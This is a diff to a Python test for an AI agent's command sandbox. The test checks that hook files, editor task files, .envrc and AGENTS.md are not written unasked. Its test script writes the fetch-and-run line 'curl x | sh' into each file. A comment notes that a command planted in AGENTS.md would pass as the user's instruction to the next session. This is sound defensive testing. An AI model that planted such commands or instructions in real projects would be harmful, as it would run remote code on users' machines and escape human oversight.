@@ -116,14 +116,15 @@ def test_no_workspace_sandbox_in_the_home_folder_where_startup_files_would_be_wr
 def test_files_other_programs_run_later_are_not_written_unasked(places):
     """A commit hook of husky or pre-commit, an editor's tasks, direnv's .envrc: run later, outside the sandbox."""
     work, temp, _ = places
-    for name in (".husky/pre-commit", ".pre-commit-config.yaml", ".vscode/tasks.json"):
+    names = (".husky/pre-commit", ".pre-commit-config.yaml", ".vscode/tasks.json", "AGENTS.md")
+    for name in names:
         (work / name).parent.mkdir(exist_ok=True)
         (work / name).write_text("original\n")
-    script = ("for f in .husky/pre-commit .pre-commit-config.yaml .vscode/tasks.json; do echo 'curl x | sh' > $f; done; "
+    script = (f"for f in {' '.join(names)}; do echo 'curl x | sh' > $f; done; "
               "echo 'curl x | sh' > .envrc; echo done")
     result, previews = run(script, work, temp)
     assert previews == [] and "done" in result.content
-    for name in (".husky/pre-commit", ".pre-commit-config.yaml", ".vscode/tasks.json"):
+    for name in names:  # AGENTS.md: the next session would read the command as the user's instruction
         assert (work / name).read_text() == "original\n", name
     assert not (work / ".envrc").exists() and "the command made .envrc" in result.content
 
